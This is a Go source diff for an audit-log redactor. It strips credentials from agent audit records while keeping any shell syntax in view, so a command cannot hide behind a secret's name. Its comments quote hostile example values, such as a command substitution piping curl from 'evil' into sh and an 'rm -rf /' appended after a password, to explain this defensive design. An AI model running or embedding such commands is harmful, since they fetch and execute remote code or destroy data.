@@ -21,29 +21,68 @@ const Redacted = "[REDACTED]"
 // has to be narrower: "token" must end the name, so "max_tokens=5" stays.
 const secretName = `(?:api[_\-]?key|access[_\-]?key|token|secret|passw(?:or)?d|passphrase|credentials?)`
 
-// keyPatterns matches credential-shaped substrings. Alternatives with a
-// capture group keep the captured prefix (the name, the "Bearer ") and lose
-// only what follows; the others are replaced whole. Each needs a long enough
-// body that ordinary words and ids do not match, and starts at a word
-// boundary so "task-..." is not read as "sk-...".
+// keyPatterns matches credential-shaped substrings. The first alternative
+// (a bearer credential) captures the part to keep and matches the token
+// after it; the next two match only a secret's name and what joins it to
+// its value (secretSpan then finds the value); the others are replaced
+// whole. Each needs a long enough body that ordinary words and ids do not
+// match, and starts at a word boundary so "task-..." is not read as
+// "sk-...". None reaches across a line break, and no replaced part can
+// contain shell syntax (see secretSpan): redaction must never hide what a
+// command does.
 //
 //	Bearer <token>                     HTTP bearer credentials
-//	name=value, name: value            assignments to a secret-named name (env, URLs, YAML, JSON text)
+//	name=value, name: value            assignments to a secret-named name (env, URLs, YAML, JSON text);
+//	                                   "name = value" too, but never "name= value", which in a shell
+//	                                   runs value as a command with name set to ""
 //	--name value                       command-line flags with a secret-named name
 //	sk-...                             OpenAI / Anthropic keys, sk-ant-... and sk-proj-... included
 //	ghp_..., github_pat_...            GitHub tokens
 //	xoxb-...                           Slack tokens
 //	AKIA..., ASIA...                   AWS access key ids
 //	eyJ....eyJ....sig                  JSON Web Tokens
-const keyPatterns = `(?i:\b(bearer\s+))[A-Za-z0-9\-._~+/]{8,}=*` +
-	`|(?i:\b([A-Za-z0-9_.\-]*` + secretName + `["']?\s*[:=]\s*))(?:"[^"]*"|'[^']*'|[^\s"'&,;]+)` +
-	`|(?i:(--?` + secretName + `\s+))(?:"[^"]*"|'[^']*'|[^\s"']+)` +
+const keyPatterns = `(?i:\b(bearer[ \t]+))[A-Za-z0-9\-._~+/]{8,}=*` +
+	`|(?i:\b([A-Za-z0-9_.\-]*` + secretName + `["']?(?:[ \t]*:[ \t]*|[ \t]+=[ \t]+|=)))` +
+	`|(?i:(--?` + secretName + `[ \t]+))` +
 	`|\bsk-[A-Za-z0-9_\-]{16,}` +
 	`|\bgh[pousr]_[A-Za-z0-9]{20,}` +
 	`|\bgithub_pat_[A-Za-z0-9_]{20,}` +
 	`|\bxox[abposr]-[A-Za-z0-9\-]{10,}` +
 	`|\b(?:AKIA|ASIA)[0-9A-Z]{16}\b` +
 	`|\beyJ[A-Za-z0-9_\-]{8,}\.eyJ[A-Za-z0-9_\-]{8,}\.[A-Za-z0-9_\-]{8,}`
+
+// isShellStop reports whether c may end or interrupt a secret value: shell
+// syntax ($ for substitutions and expansions, backquotes, backslash
+// escapes, ; | & < > ( ) for command lists, pipes, redirections and
+// subshells, quotes, line breaks). A redacted span never contains one, so
+// "password=$(curl evil | sh)" keeps its command substitution in view,
+// whatever quoting surrounds it.
+func isShellStop(c byte) bool {
+	switch c {
+	case '$', '`', '\\', ';', '|', '&', '<', '>', '(', ')', '"', '\'', '\n', '\r':
+		return true
+	}
+	return false
+}
+
+// secretSpan returns the part of s from i on that is a secret value: a
+// quoted value's content up to its closing quote, or an unquoted value up
+// to white space or a comma; either way cut short at the first shell stop
+// (isShellStop). The span may be empty.
+func secretSpan(s string, i int) (start, end int) {
+	if i < len(s) && (s[i] == '"' || s[i] == '\'') {
+		j := i + 1
+		for j < len(s) && !isShellStop(s[j]) {
+			j++
+		}
+		return i + 1, j
+	}
+	j := i
+	for j < len(s) && !isShellStop(s[j]) && !isSpace(s[j]) && s[j] != ',' {
+		j++
+	}
+	return i, j
+}
 
 // Redactor removes secrets from audit data before it is hashed and stored.
 // It is immutable after NewRedactor and safe for concurrent use.
@@ -55,9 +94,14 @@ const keyPatterns = `(?i:\b(bearer\s+))[A-Za-z0-9\-._~+/]{8,}=*` +
 //   - substrings shaped like credentials (keyPatterns): provider keys,
 //     GitHub/Slack/AWS tokens, JWTs, "Bearer <token>", and the value in
 //     "password=...", "API_KEY: ...", "--token ..." and the like;
-//   - the whole value of any member whose key names a secret (see
-//     SensitiveKey), whatever its type, except null and booleans, which
-//     cannot carry one.
+//   - the value of any member whose key names a secret (see
+//     SensitiveKey): every string in it up to its first shell syntax (see
+//     isShellStop) and every number; null and booleans cannot carry a
+//     secret and stay.
+//
+// No redaction swallows shell syntax ($(...), backquotes, ; | & < >,
+// quotes ending the value, line breaks), so a command an agent runs stays
+// visible even when it is dressed up as a secret ("password=$(curl x|sh)").
 //
 // Object keys themselves are not rewritten: a key is a name chosen by the
 // code that logs the event, and rewriting one could make two keys collide.
@@ -95,52 +139,100 @@ func NewRedactor(secrets ...string) *Redactor {
 
 // RedactString returns s with every exact secret and credential-shaped
 // substring replaced by "[REDACTED]"; for bearer credentials, assignments and
-// flags only the value goes ("Bearer [REDACTED]", "password=[REDACTED]").
+// flags only the value goes ("Bearer [REDACTED]", "password=[REDACTED]"),
+// and a value is redacted only up to the first shell syntax in it
+// ("password=$(curl x)" stays as it is, "password=pw;rm -rf /" becomes
+// "password=[REDACTED];rm -rf /"): a secret may leak its tail that way, but
+// a command can never hide behind a secret's name.
 func (r *Redactor) RedactString(s string) string {
+	return r.redactPatterns(r.replaceExact(s))
+}
+
+// replaceExact replaces the exact secrets.
+func (r *Redactor) replaceExact(s string) string {
 	if r.exact != nil {
-		s = r.exact.Replace(s)
+		return r.exact.Replace(s)
 	}
+	return s
+}
+
+// needsScan reports whether the patterns must be run over s: the
+// expensive part of redaction, which redactBudget bounds.
+func needsScan(s string) bool {
 	// The shortest thing a pattern matches ("pwd=x" style assignments
 	// excluded, which need a longer name) is longer than this; skipping
 	// short strings keeps the regexp off the many tiny values (ids, enums).
-	if len(s) < 7 || !mayHoldCredential(s) {
+	return len(s) >= 7 && mayHoldCredential(s)
+}
+
+// redactPatterns is RedactString after the exact secrets are replaced.
+func (r *Redactor) redactPatterns(s string) string {
+	if !needsScan(s) {
 		return s
 	}
-	matches := r.patterns.FindAllStringSubmatchIndex(s, -1)
-	if matches == nil {
-		return s
-	}
+	return r.scanPatterns(s)
+}
+
+// scanPatterns runs the patterns over s, for which needsScan is true.
+func (r *Redactor) scanPatterns(s string) string {
 	var b strings.Builder
-	b.Grow(len(s))
-	last := 0
-	for _, m := range matches {
-		start, end := m[0], m[1]
-		b.WriteString(s[last:start])
-		last = end
-		keep := -1
-		for g := 2; g < len(m); g += 2 {
-			if m[g] >= 0 {
-				keep = m[g+1]
-				break
+	last := 0 // s[:last] is written or replaced
+	for from := 0; from < len(s); {
+		m := r.patterns.FindStringSubmatchIndex(s[from:])
+		if m == nil {
+			break
+		}
+		for k := range m {
+			if m[k] >= 0 {
+				m[k] += from
 			}
 		}
-		if keep < 0 {
-			b.WriteString(Redacted)
+		start, end := m[0], m[1]
+		redFrom, redTo := start, end // what is replaced
+		switch {
+		case m[2] >= 0 && start > 0 && s[start-1] == '=':
+			// x=Bearer word: in a shell, an assignment and then the
+			// command "word"; a real header value would be quoted. The
+			// word is still searched for credentials of other shapes.
+			from = m[3]
 			continue
+		case m[2] >= 0: // bearer: keep "Bearer "
+			redFrom = m[3]
+		case m[4] >= 0 || m[6] >= 0: // a name: the value follows
+			redFrom, redTo = secretSpan(s, end)
 		}
-		b.WriteString(s[start:keep])
-		// A quoted value keeps its quotes, so JSON or shell text stays
-		// well formed.
-		if v := s[keep:end]; len(v) >= 2 && (v[0] == '"' || v[0] == '\'') && v[len(v)-1] == v[0] {
-			b.WriteByte(v[0])
+		if redTo > redFrom {
+			if b.Len() == 0 {
+				b.Grow(len(s))
+			}
+			b.WriteString(s[last:redFrom])
 			b.WriteString(Redacted)
-			b.WriteByte(v[0])
-		} else {
-			b.WriteString(Redacted)
+			last = redTo
 		}
+		from = max(end, redTo)
+		if from == start {
+			from++ // an empty match cannot happen, but never loop on one
+		}
+	}
+	if last == 0 {
+		return s
 	}
 	b.WriteString(s[last:])
 	return b.String()
+}
+
+// redactSecret redacts the value of a secret-named member: the whole of it
+// up to the first shell stop (white space included, so a pass phrase goes
+// whole), then the rest as any string.
+func (r *Redactor) redactSecret(s string) string {
+	i := 0
+	for i < len(s) && !isShellStop(s[i]) {
+		i++
+	}
+	if i == 0 {
+		return r.RedactString(s)
+	}
+	return Redacted + r.RedactString(s[i:])
 }
 
 // mayHoldCredential is a cheap pre-check for keyPatterns: it reports
@@ -288,14 +380,22 @@ func (r *Redactor) checkKey(key string) error {
 }
 
 // redactValue rewrites v in place (objects and arrays) and returns the new
-// value (strings).
-func (r *Redactor) redactValue(v any) (any, error) {
+// value (strings). secret says v is (inside) the value of a secret-named
+// member: its strings go through redactSecret and its numbers become
+// "[REDACTED]". Strings over MaxStringBytes come back elided (see
+// elidedObject).
+func (r *canon) redactValue(v any, secret bool) (any, error) {
 	switch t := v.(type) {
 	case string:
-		return r.RedactString(t), nil
+		return r.text(t, secret), nil
+	case json.Number:
+		if secret {
+			return Redacted, nil
+		}
+		return t, nil
 	case []any:
 		for i := range t {
-			e, err := r.redactValue(t[i])
+			e, err := r.redactValue(t[i], secret)
 			if err != nil {
 				return nil, err
 			}
@@ -308,15 +408,7 @@ func (r *Redactor) redactValue(v any) (any, error) {
 			if err := r.checkKey(m.key); err != nil {
 				return nil, err
 			}
-			if SensitiveKey(m.key) {
-				switch m.val.(type) {
-				case nil, bool:
-				default:
-					m.val = Redacted
-					continue
-				}
-			}
-			e, err := r.redactValue(m.val)
+			e, err := r.redactValue(m.val, secret || SensitiveKey(m.key))
 			if err != nil {
 				return nil, err
 			}
@@ -327,11 +419,113 @@ func (r *Redactor) redactValue(v any) (any, error) {
 	return v, nil
 }
 
+// canon is one Canonicalize call: the Redactor and how much more string
+// text its pattern redaction may scan.
+type canon struct {
+	*Redactor
+	budget int
+}
+
+// redactBudget bounds the string bytes the pattern redaction scans for one
+// record. The regular expression costs about a microsecond per match, so a
+// megabyte of "token=a " would otherwise cost a second of CPU per record.
+// Strings that cannot hold a credential (mayHoldCredential) cost nothing;
+// past the budget, the others are stored elided without a clear prefix.
+// The bound is well above what a record can keep verbatim (MaxDataBytes),
+// so no ordinary record comes near it.
+const redactBudget = 64 << 10
+
+func (r *Redactor) newCanon() *canon { return &canon{Redactor: r, budget: redactBudget} }
+
+// text redacts a string value and bounds it: the parsed-tree counterpart
+// of appendText. A string too long to keep (over MaxStringBytes, before or
+// after redaction) or beyond the record's redaction budget becomes an
+// elided object (elidedObject): its prefix is the redacted beginning of the
+// string, its length and SHA-256 are of the whole string with the exact
+// secrets replaced. So the daemon's own secrets never enter the hash, and
+// the rest of a long string is hashed rather than scanned: a SHA-256 does
+// not reveal a credential in it unless a reader can guess everything else.
+func (r *canon) text(s string, secret bool) any {
+	whole := r.replaceExact(s)
+	if len(whole) <= MaxStringBytes {
+		if red, ok := r.redactBudgeted(whole, secret); ok && len(red) <= MaxStringBytes {
+			return red
+		}
+	}
+	return elidedObject(elidedString, whole, r.elidedPrefix(whole, secret))
+}
+
+// elidedPrefix is the clear prefix of an elided string: its beginning,
+// redacted, or "" once the record's redaction budget is spent. A little
+// more than the prefix is redacted, so a credential cut by the prefix's end
+// is still recognised.
+func (r *canon) elidedPrefix(whole string, secret bool) string {
+	head := whole[:min(len(whole), ElidedPrefixBytes+512)]
+	prefix, ok := r.redactBudgeted(head, secret)
+	if !ok {
+		return ""
+	}
+	return prefix
+}
+
+// redactBudgeted redacts s (its exact secrets already replaced), unless
+// the patterns would have to scan more than the budget left.
+func (r *canon) redactBudgeted(s string, secret bool) (string, bool) {
+	if secret {
+		if needsScan(s) {
+			if len(s) > r.budget {
+				return "", false
+			}
+			r.budget -= len(s)
+		}
+		return r.redactSecret(s), true
+	}
+	if !needsScan(s) {
+		return s, true // the common case: one cheap pass, no regexp
+	}
+	if len(s) > r.budget {
+		return "", false
+	}
+	r.budget -= len(s)
+	return r.scanPatterns(s), true
+}
+
+// appendText appends a string value, redacted and bounded (as text).
+func (r *canon) appendText(b []byte, s string, secret bool) []byte {
+	whole := r.replaceExact(s)
+	if len(whole) <= MaxStringBytes {
+		if red, ok := r.redactBudgeted(whole, secret); ok && len(red) <= MaxStringBytes {
+			return appendString(b, red)
+		}
+	}
+	return appendElided(b, elidedString, whole, r.elidedPrefix(whole, secret))
+}
+
 // Canonicalize marshals data (any value encoding/json accepts; a
 // json.RawMessage or []byte holding JSON text is used as is; nil means {}),
-// requires it to be a JSON object, redacts it and returns its canonical
-// JSON text: exactly the bytes Log.Append would hash and store.
+// requires it to be a JSON object, redacts and bounds it and returns its
+// canonical JSON text: exactly the bytes Log.Append would hash and store.
+//
+// Bounds: a string value longer than MaxStringBytes (after redaction) is
+// replaced by an object holding its first ElidedPrefixBytes, its byte
+// length and its SHA-256 (see elidedObject); if the data is then still
+// over MaxDataBytes, its largest top-level members are replaced the same
+// way (the SHA-256 then covers the member's canonical JSON text), and if
+// that is not enough (thousands of small members), the whole data is. So
+// no record's data exceeds MaxDataBytes, and the values that fit (an exit
+// code next to a huge argv) stay readable.
 func (r *Redactor) Canonicalize(data any) ([]byte, error) {
+	out, err := r.canonicalize(data)
+	if err != nil {
+		return nil, err
+	}
+	if len(out) > MaxDataBytes {
+		out = shrink(out)
+	}
+	return out, nil
+}
+
+func (r *Redactor) canonicalize(data any) ([]byte, error) {
 	switch t := data.(type) {
 	case nil:
 		return []byte("{}"), nil
@@ -339,17 +533,17 @@ func (r *Redactor) Canonicalize(data any) ([]byte, error) {
 		// The common case, encoded straight from the map: marshalling it to
 		// JSON and parsing that back was most of Append's CPU cost.
 		if t != nil {
-			return r.appendValue(make([]byte, 0, 256), t)
+			return r.newCanon().appendValue(make([]byte, 0, 256), t, false)
 		}
 	case map[string]string:
 		if t != nil {
-			return r.appendValue(make([]byte, 0, 256), t)
+			return r.newCanon().appendValue(make([]byte, 0, 256), t, false)
 		}
 	}
 	return r.canonicalizeSlow(data)
 }
 
-// canonicalizeSlow is Canonicalize through encoding/json: marshal, parse,
+// canonicalizeSlow is canonicalize through encoding/json: marshal, parse,
 // redact the tree, encode. It defines the result; appendValue must produce
 // the same bytes for the values it handles (TestCanonicalizeFastPath).
 func (r *Redactor) canonicalizeSlow(data any) ([]byte, error) {
@@ -375,7 +569,7 @@ func (r *Redactor) canonicalizeSlow(data any) ([]byte, error) {
 	if _, ok := v.(*object); !ok {
 		return nil, fmt.Errorf("audit: data must be a JSON object, got %s", jsonKind(v))
 	}
-	if v, err = r.redactValue(v); err != nil {
+	if v, err = r.newCanon().redactValue(v, false); err != nil {
 		return nil, err
 	}
 	return appendCanonical(make([]byte, 0, len(raw)), v), nil
@@ -384,8 +578,15 @@ func (r *Redactor) canonicalizeSlow(data any) ([]byte, error) {
 // appendValue appends the redacted canonical JSON of a Go value. It handles
 // the types audit data is usually built from directly and hands anything
 // else (structs, floats, named types, custom marshalers) to encoding/json
-// via marshalValue, so the output is the same either way.
-func (r *Redactor) appendValue(b []byte, v any) ([]byte, error) {
+// via marshalValue, so the output is the same either way. secret is as for
+// redactValue.
+func (r *canon) appendValue(b []byte, v any, secret bool) ([]byte, error) {
+	if secret {
+		switch v.(type) {
+		case int, int64, int32, uint64, uint32:
+			return appendString(b, Redacted), nil
+		}
+	}
 	switch t := v.(type) {
 	case nil:
 		return append(b, "null"...), nil
@@ -395,7 +596,7 @@ func (r *Redactor) appendValue(b []byte, v any) ([]byte, error) {
 		}
 		return append(b, "false"...), nil
 	case string:
-		return appendString(b, r.RedactString(t)), nil
+		return r.appendText(b, t, secret), nil
 	case int:
 		return strconv.AppendInt(b, int64(t), 10), nil
 	case int64:
@@ -415,7 +616,7 @@ func (r *Redactor) appendValue(b []byte, v any) ([]byte, error) {
 			if i > 0 {
 				b = append(b, ',')
 			}
-			b = appendString(b, r.RedactString(s))
+			b = r.appendText(b, s, secret)
 		}
 		return append(b, ']'), nil
 	case []any:
@@ -428,7 +629,7 @@ func (r *Redactor) appendValue(b []byte, v any) ([]byte, error) {
 				b = append(b, ',')
 			}
 			var err error
-			if b, err = r.appendValue(b, e); err != nil {
+			if b, err = r.appendValue(b, e, secret); err != nil {
 				return nil, err
 			}
 		}
@@ -437,28 +638,27 @@ func (r *Redactor) appendValue(b []byte, v any) ([]byte, error) {
 		if t == nil {
 			return append(b, "null"...), nil
 		}
-		return appendObject(r, b, v, t, r.appendMember)
+		return appendObject(r, b, v, t, secret, func(b []byte, k string, e any) ([]byte, error) {
+			return r.appendValue(b, e, secret || SensitiveKey(k))
+		})
 	case map[string]string:
 		if t == nil {
 			return append(b, "null"...), nil
 		}
-		return appendObject(r, b, v, t, func(b []byte, k, s string) ([]byte, error) {
-			if SensitiveKey(k) {
-				return appendString(b, Redacted), nil
-			}
-			return appendString(b, r.RedactString(s)), nil
+		return appendObject(r, b, v, t, secret, func(b []byte, k, s string) ([]byte, error) {
+			return r.appendText(b, s, secret || SensitiveKey(k)), nil
 		})
 	}
-	return r.marshalValue(b, v)
+	return r.marshalValue(b, v, secret)
 }
 
 // appendObject appends m with sorted keys, each member's value through
 // member. Typed maps skip boxing every value into an any; v is m itself, for
 // the marshalling fallback when keys cannot be sorted canonically.
-func appendObject[V any](r *Redactor, b []byte, v any, m map[string]V, member func([]byte, string, V) ([]byte, error)) ([]byte, error) {
+func appendObject[V any](r *canon, b []byte, v any, m map[string]V, secret bool, member func([]byte, string, V) ([]byte, error)) ([]byte, error) {
 	keys, ok := sortedKeys(m)
 	if !ok {
-		return r.marshalValue(b, v)
+		return r.marshalValue(b, v, secret)
 	}
 	b = append(b, '{')
 	for i, k := range keys {
@@ -478,53 +678,9 @@ func appendObject[V any](r *Redactor, b []byte, v any, m map[string]V, member fu
 	return append(b, '}'), nil
 }
 
-// appendMember appends the value of object member key, applying the
-// secret-named-key rule exactly as redactValue does on a parsed tree: any
-// value but null and booleans becomes "[REDACTED]". Whether a Go value
-// marshals to null or a boolean is only certain for these types; anything
-// else is marshalled first to find out.
-func (r *Redactor) appendMember(b []byte, key string, v any) ([]byte, error) {
-	if !SensitiveKey(key) {
-		return r.appendValue(b, v)
-	}
-	switch v.(type) {
-	case nil, bool:
-		return r.appendValue(b, v)
-	case string, int, int64, int32, uint64, uint32, []string, []any, map[string]any, map[string]string:
-		if isNilValue(v) {
-			return append(b, "null"...), nil
-		}
-		return appendString(b, Redacted), nil
-	}
-	raw, err := json.Marshal(v)
-	if err != nil {
-		return nil, fmt.Errorf("audit: marshal data: %w", err)
-	}
-	if string(raw) == "null" || string(raw) == "true" || string(raw) == "false" {
-		return append(b, raw...), nil
-	}
-	return appendString(b, Redacted), nil
-}
-
-// isNilValue reports whether v is a nil slice or map of the fast-path
-// types, which encoding/json writes as null.
-func isNilValue(v any) bool {
-	switch t := v.(type) {
-	case []string:
-		return t == nil
-	case []any:
-		return t == nil
-	case map[string]any:
-		return t == nil
-	case map[string]string:
-		return t == nil
-	}
-	return false
-}
-
 // marshalValue is the slow path for one value: through encoding/json and
 // the parser, then redacted and encoded like any parsed value.
-func (r *Redactor) marshalValue(b []byte, v any) ([]byte, error) {
+func (r *canon) marshalValue(b []byte, v any, secret bool) ([]byte, error) {
 	var raw []byte
 	switch t := v.(type) {
 	case json.RawMessage:
@@ -543,7 +699,7 @@ func (r *Redactor) marshalValue(b []byte, v any) ([]byte, error) {
 	if err != nil {
 		return nil, fmt.Errorf("audit: data is not valid JSON: %w", err)
 	}
-	if tree, err = r.redactValue(tree); err != nil {
+	if tree, err = r.redactValue(tree, secret); err != nil {
 		return nil, err
 	}
 	return appendCanonical(b, tree), nil
